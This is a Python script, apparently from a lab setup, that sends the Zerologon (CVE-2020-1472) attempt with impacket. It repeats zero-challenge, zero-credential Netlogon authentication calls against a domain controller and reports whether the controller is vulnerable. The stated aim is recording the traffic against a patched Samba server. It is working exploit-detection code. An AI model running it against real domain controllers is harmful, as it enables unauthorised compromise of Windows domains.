#!/usr/bin/python3
"""Zerologon (CVE-2020-1472) attempt, written with impacket's library (run by run.sh in the client namespace).

Does what the public Zerologon testers (SecuraBV's zerologon_tester.py and its clones) put on the
wire: the endpoint mapper on port 135 is asked for netlogon's ncacn_ip_tcp endpoint (ept_map), one
unauthenticated bind to netlogon on that dynamic port, then TRIES times NetrServerReqChallenge with
an all-zero client challenge and NetrServerAuthenticate3 for the DC's own machine account (DC01$,
secure channel type ServerSecureChannel) with an all-zero 8-byte client credential and negotiate
flags 0x212fffff. Samba since 4.13 refuses a zero challenge / credential (STATUS_ACCESS_DENIED):
the refusals are expected; the attempt is what the capture documents.
usage: zerologon_attempt.py DC_NAME DC_IP TRIES
"""
import sys

from impacket.dcerpc.v5 import epm, nrpc, transport
from labrpc import step

dc, ip, tries = sys.argv[1], sys.argv[2], int(sys.argv[3])

binding = epm.hept_map(ip, nrpc.MSRPC_UUID_NRPC, protocol='ncacn_ip_tcp')
print('ok   ept_map netlogon ->', binding)
dce = transport.DCERPCTransportFactory(binding).get_dce_rpc()
dce.connect()
dce.bind(nrpc.MSRPC_UUID_NRPC)
zero = b'\x00' * 8
for i in range(tries):
    step('NetrServerReqChallenge #%d' % (i + 1), nrpc.hNetrServerReqChallenge, dce, '\\\\' + dc + '\x00', dc + '\x00', zero)
    r = step('NetrServerAuthenticate3 #%d' % (i + 1), nrpc.hNetrServerAuthenticate3, dce, '\\\\' + dc + '\x00',
             dc + '$\x00', nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, dc + '\x00', zero, 0x212fffff)
    if r is not None and r['ErrorCode'] == 0:
        print('the DC accepted a zero credential: vulnerable')
        break
dce.disconnect()
